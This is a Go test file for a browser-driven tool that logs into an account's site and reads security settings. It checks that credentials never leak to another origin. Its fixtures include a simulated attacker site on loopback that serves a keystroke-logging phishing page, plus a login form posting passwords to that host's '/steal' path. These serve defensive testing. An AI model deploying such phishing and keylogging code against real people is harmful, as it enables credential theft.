package page

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"chaperone/audit"
	"chaperone/platforms"
	"chaperone/platforms/browser"
)

// The password the tests' credentials hold; it must only ever reach site A.
const secret = "s3cret-pw-7731"

// hostile is a second site on another loopback address (127.0.0.2): it
// serves a perfect copy of the settings and a login form, and records
// anything that reaches it.
type hostile struct {
	mu   sync.Mutex
	seen []string // request bodies and typed values
	url  string
}

func (h *hostile) record(s string) {
	h.mu.Lock()
	h.seen = append(h.seen, s)
	h.mu.Unlock()
}

func (h *hostile) leaked() bool {
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, s := range h.seen {
		if strings.Contains(s, secret) {
			return true
		}
	}
	return false
}

func (h *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
	h.record(r.URL.String() + " " + string(body))
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	switch r.URL.Path {
	case "/settings":
		fmt.Fprint(w, settingsHTML("en", "On"))
	case "/login":
		// Reports every keystroke, as a phishing page would.
		fmt.Fprint(w, `<!doctype html><html lang="en"><body><main role="main"><form method="post" action="/login">
<input aria-label="Email" name="u"><input aria-label="Password" type="password" name="p"><button>Log in</button></form>
<script>document.addEventListener('input', (e) => fetch('/typed', {method: 'POST', body: e.target.value}));</script></main></body></html>`)
	default:
		fmt.Fprint(w, `<!doctype html><html lang="en"><body><h1>Dr Test Person</h1></body></html>`)
	}
}

func settingsHTML(lang, value string) string {
	return `<!doctype html><html lang="` + lang + `"><body><main role="main"><section><h2>Security</h2>
<div><div><span>Two-factor authentication</span><span>Ask for a code when someone logs in from a new device.</span></div><div><span>` + value + `</span><button>Edit</button></div></div>
</section></main></body></html>`
}

// siteA is the account's own site on 127.0.0.1, with pages that misbehave
// in every way the tests need.
func siteA(evil *hostile) http.Handler {
	mux := http.NewServeMux()
	loggedIn := func(r *http.Request) bool {
		c, err := r.Cookie("sess")
		return err == nil && c.Value == "ok"
	}
	guard := func(h http.HandlerFunc) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if !loggedIn(r) {
				http.Redirect(w, r, "/login?next="+url.QueryEscape(r.URL.RequestURI()), http.StatusFound)
				return
			}
			h(w, r)
		}
	}
	html := func(w http.ResponseWriter, status int, s string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.WriteHeader(status)
		fmt.Fprint(w, s)
	}
	mux.HandleFunc("GET /login", func(w http.ResponseWriter, r *http.Request) {
		html(w, 200, `<!doctype html><html lang="en"><body><main role="main"><form method="post" action="/login?next=`+url.QueryEscape(r.URL.Query().Get("next"))+`">
<input aria-label="Email" name="u"><input aria-label="Password" type="password" name="p"><button>Log in</button></form></main></body></html>`)
	})
	mux.HandleFunc("POST /login", func(w http.ResponseWriter, r *http.Request) {
		if r.FormValue("p") != secret {
			html(w, 200, `<!doctype html><html lang="en"><body><main role="main"><div role="alert">Wrong password</div><form method="post"><input aria-label="Email" name="u"><input aria-label="Password" type="password" name="p"><button>Log in</button></form></main></body></html>`)
			return
		}
		http.SetCookie(w, &http.Cookie{Name: "sess", Value: "ok", Path: "/"})
		next := r.URL.Query().Get("next")
		if !strings.HasPrefix(next, "/") {
			next = "/"
		}
		http.Redirect(w, r, next, http.StatusFound)
	})
	// A login form that posts to the other site.
	mux.HandleFunc("GET /login-evil", func(w http.ResponseWriter, r *http.Request) {
		html(w, 200, `<!doctype html><html lang="en"><body><main role="main"><form method="post" action="`+evil.url+`/steal">
<input aria-label="Email" name="u"><input aria-label="Password" type="password" name="p"><button>Log in</button></form></main></body></html>`)
	})
	mux.HandleFunc("GET /settings/ok", guard(func(w http.ResponseWriter, r *http.Request) {
		okServed.Add(1)
		html(w, 200, settingsHTML("en", "On"))
	}))
	mux.HandleFunc("GET /settings/unset", guard(func(w http.ResponseWriter, r *http.Request) { html(w, 200, settingsHTML("en", "Not set up")) }))
	mux.HandleFunc("GET /settings/fr", guard(func(w http.ResponseWriter, r *http.Request) { html(w, 200, settingsHTML("fr", "On")) }))
	mux.HandleFunc("GET /settings/500", func(w http.ResponseWriter, r *http.Request) { html(w, 500, "<h1>Internal error</h1>") })
	mux.HandleFunc("GET /settings/404", func(w http.ResponseWriter, r *http.Request) {
		html(w, 404, `<!doctype html><html lang="en"><body><h1>Two-factor authentication</h1><p>On</p></body></html>`)
	})
	mux.HandleFunc("GET /settings/away", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.url+"/settings", http.StatusFound)
	})
	mux.HandleFunc("GET /settings/awaylogin", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, evil.url+"/login", http.StatusFound) })
	mux.HandleFunc("GET /settings/evilform", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/login-evil", http.StatusFound) })
	// Public profiles as a logged-out visitor gets them.
	mux.HandleFunc("GET /u/doctor", func(w http.ResponseWriter, r *http.Request) {
		html(w, 200, `<!doctype html><html lang="en"><head><title>Dr Test Person</title></head><body><main role="main"><h1>Dr Test Person</h1><p>Works at Mill Lane Surgery</p></main></body></html>`)
	})
	mux.HandleFunc("GET /u/private", func(w http.ResponseWriter, r *http.Request) {
		html(w, 200, `<!doctype html><html lang="en"><body><main role="main"><h1>Dr Test Person</h1><p>This account is private</p></main></body></html>`)
	})
	mux.HandleFunc("GET /u/wall", func(w http.ResponseWriter, r *http.Request) {
		html(w, 200, `<!doctype html><html lang="en"><body><main role="main"><h1>Dr Test Person</h1><p>You must log in to continue.</p></main></body></html>`)
	})
	mux.HandleFunc("GET /u/gone", func(w http.ResponseWriter, r *http.Request) {
		html(w, 404, `<!doctype html><html lang="en"><body><h1>Dr Test Person</h1><p>Nothing here</p></body></html>`)
	})
	mux.HandleFunc("GET /u/soft404", func(w http.ResponseWriter, r *http.Request) {
		html(w, 200, `<!doctype html><html lang="en"><body><h1>Chaperone Test Site</h1><p>This content isn't available right now</p></body></html>`)
	})
	mux.HandleFunc("GET /u/french", func(w http.ResponseWriter, r *http.Request) {
		html(w, 200, `<!doctype html><html lang="fr"><body><h1>Dr Test Person</h1><p>Travaille à Mill Lane Surgery</p></body></html>`)
	})
	mux.HandleFunc("GET /u/redirect", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/", http.StatusFound) })
	mux.HandleFunc("GET /u/elsewhere", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.url+"/u/doctor", http.StatusFound)
	})
	mux.HandleFunc("GET /u/someone", func(w http.ResponseWriter, r *http.Request) {
		html(w, 200, `<!doctype html><html lang="en"><body><main role="main"><h1>Another Person</h1></main></body></html>`)
	})
	mux.HandleFunc("GET /", func(w http.ResponseWriter, r *http.Request) {
		html(w, 200, `<!doctype html><html lang="en"><body><h1>Chaperone Test Site</h1></body></html>`)
	})
	return mux
}

// okServed counts the logged-in loads of /settings/ok.
var okServed atomic.Int32

type creds struct{}

func (creds) Login(context.Context, audit.Platform, string) (string, string, error) {
	return secret, "", nil
}

func serve(t *testing.T, addr string, h http.Handler) string {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatalf("listening on %s: %v", addr, err)
	}
	srv := &http.Server{Handler: h, ReadHeaderTimeout: 5 * time.Second}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return "http://" + ln.Addr().String()
}

type fixture struct {
	b    *browser.Browser
	site *Site
	acct platforms.Account
	evil *hostile
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	if testing.Short() || os.Getenv("CHAPERONE_SKIP_BROWSER") == "1" {
		t.Skip("needs Chromium")
	}
	evil := &hostile{}
	evil.url = serve(t, "127.0.0.2:0", evil)
	a := serve(t, "127.0.0.1:0", siteA(evil))
	b, err := browser.Start(context.Background(), browser.Options{StepTimeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { b.Close() })
	site := &Site{
		Platform: "testsite", Origin: "https://www.example.org", Languages: []string{"en"},
		Login: Login{Path: "/login", Walls: []string{"/login", "/login-evil"}, WallPhrases: []string{"You must log in to continue"},
			SessionCookies: []string{"sess"}, UserField: []string{"Email"}, PasswordField: []string{"Password"}, Submit: []string{"Log in"}},
		Pages: map[string]string{
			"ok": "/settings/ok", "unset": "/settings/unset", "fr": "/settings/fr", "500": "/settings/500", "404": "/settings/404",
			"away": "/settings/away", "awaylogin": "/settings/awaylogin", "evilform": "/settings/evilform",
		},
		NotFound: []string{"This content isn't available right now"},
	}
	for _, name := range []string{"ok", "unset", "fr", "500", "404", "away", "awaylogin", "evilform"} {
		site.Facts = append(site.Facts, Fact{ID: "testsite." + name, Page: name, Labels: []string{"Two-factor authentication"},
			Values: map[string]string{"On": audit.On, "Off": audit.Off}})
	}
	return &fixture{b: b, site: site, acct: platforms.Account{Platform: "testsite", User: "dr@example.org", Origin: a}, evil: evil}
}

func (f *fixture) session(t *testing.T) *Session {
	t.Helper()
	s, err := Start(context.Background(), f.b, f.site, f.acct, platforms.Options{Credentials: creds{}}, "")
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// Credentials go only to the account's own origin, and a page from
// another origin contributes no fact, after any redirect.
func TestNothingCrossesToAnotherSite(t *testing.T) {
	f := newFixture(t)
	for _, page := range []string{"away", "awaylogin", "evilform"} {
		t.Run(page, func(t *testing.T) {
			s := f.session(t)
			_, err := s.ReadSettings(context.Background(), page)
			if !errors.Is(err, platforms.ErrOtherOrigin) {
				t.Fatalf("err = %v, want ErrOtherOrigin", err)
			}
			if !strings.Contains(err.Error(), "127.0.0.2") {
				t.Errorf("error %q does not name the other host", err)
			}
			snap, _ := s.Finish(err, []string{"testsite." + page})
			if len(snap.Facts) != 0 {
				t.Errorf("facts read from another site: %v", snap.Facts)
			}
			if cov := snap.CoverageFor("testsite"); cov.Problem != audit.ProblemOtherOrigin {
				t.Errorf("problem %q", cov.Problem)
			}
		})
	}
	if f.evil.leaked() {
		t.Fatalf("the password reached the other site: %q", f.evil.seen)
	}
}

// The login works on the account's own site, and a value is read only from
// its own row.
func TestLoginAndRead(t *testing.T) {
	f := newFixture(t)
	s := f.session(t)
	okServed.Store(0)
	if _, err := s.ReadSettings(context.Background(), "ok"); err != nil {
		t.Fatal(err)
	}
	// The login sends the tab back to the page: it is read there, not
	// loaded a second time.
	if n := okServed.Load(); n != 1 {
		t.Errorf("the settings page was served %d times after the login; want 1", n)
	}
	if _, err := s.ReadSettings(context.Background(), "unset"); err != nil {
		t.Fatal(err)
	}
	snap, _ := s.Finish(nil, nil)
	if v := snap.Facts["testsite.ok"].Value; v != audit.On {
		t.Errorf("ok = %q, want on", v)
	}
	if _, ok := snap.Facts["testsite.unset"]; ok || !strings.Contains(snap.Coverage[0].Missing["testsite.unset"], `"Not set up"`) {
		t.Errorf("an unrecognised value was read, or its reason lost: %v", snap.Coverage[0].Missing)
	}
}

// A page in another language or not found leaves its facts unread with
// the reason; a server error stops the network with its own message.
func TestPagesThatCannotBeRead(t *testing.T) {
	f := newFixture(t)
	s := f.session(t)
	for page, want := range map[string]string{"fr": "is in fr", "404": "was not found (HTTP 404)"} {
		_, err := s.ReadSettings(context.Background(), page)
		if !IsPageError(err) {
			t.Errorf("%s: err = %v, want a page error", page, err)
		}
		if why := s.Cov.Missing["testsite."+page]; !strings.Contains(why, want) {
			t.Errorf("%s: reason %q, want %q", page, why, want)
		}
	}
	_, err := s.ReadSettings(context.Background(), "500")
	if !errors.Is(err, platforms.ErrServerError) || platforms.ProblemOf(err) != audit.ProblemServerError {
		t.Errorf("HTTP 500: err = %v", err)
	}
	snap, _ := s.Finish(nil, nil)
	if len(snap.Facts) != 0 {
		t.Errorf("facts read from pages that could not be read: %v", snap.Facts)
	}
}

// The public view proves what it saw: only the profile asked for, from the
// account's site, in a known language, is read; everything else says what
// the page was instead.
func TestPublicViewProvesItself(t *testing.T) {
	f := newFixture(t)
	s := f.session(t)
	defer s.Finish(nil, nil)
	names := []string{"Dr Test Person"}
	cases := map[string]string{
		"/u/wall":      "asked to log in",
		"/u/gone":      "HTTP 404",
		"/u/soft404":   "isn't available",
		"/u/french":    "language",
		"/u/redirect":  "was sent from the profile",
		"/u/elsewhere": "127.0.0.2",
		"/u/someone":   "did not show the profile's name",
	}
	for path, want := range cases {
		_, err := s.OpenPublic(context.Background(), Profile{URL: s.URL(path), Names: names})
		if !IsPageError(err) || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: err = %v, want a page error saying %q", path, err, want)
		}
	}
	doc, err := s.OpenPublic(context.Background(), Profile{URL: s.URL("/u/doctor"), Names: names, Private: []string{"This account is private"}})
	if err != nil || doc.Private {
		t.Errorf("the real profile: %+v, %v", doc, err)
	}
	doc, err = s.OpenPublic(context.Background(), Profile{URL: s.URL("/u/private"), Names: names, Private: []string{"This account is private"}})
	if err != nil || !doc.Private {
		t.Errorf("a private profile: %+v, %v", doc, err)
	}
}

// An account's origin must be https, or http on this computer only.
func TestCheckOrigin(t *testing.T) {
	for origin, ok := range map[string]bool{
		"https://www.facebook.com": true, "http://127.0.0.1:8080": true, "http://localhost:9": true,
		"http://www.facebook.com": false, "https://www.facebook.com/path": false, "ftp://x": false, "": false,
	} {
		if err := platforms.CheckOrigin(origin); (err == nil) != ok {
			t.Errorf("CheckOrigin(%q) = %v", origin, err)
		}
	}
}

type fuzzConfig struct {
	Site
	Extra []string `json:"extra"`
}

// FuzzDecode: any bytes decode to a validated site or an error, never a
// panic or a site that fails its own validation.
func FuzzDecode(f *testing.F) {
	f.Add([]byte(`{"platform":"x","origin":"https://x.com","languages":["en"],"login":{"path":"/login","walls":["/login"]},"pages":{"p":"/p"},"facts":[{"id":"x.a","page":"p","labels":["A"],"values":{"On":"on"}}]}`))
	f.Add([]byte(`{"platform":"x","origin":"http://x.com"}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		var c fuzzConfig
		if err := Decode(data, &c); err != nil {
			return
		}
		if err := c.Validate(); err != nil {
			t.Fatalf("decoded a site that fails validation: %v", err)
		}
	})
}
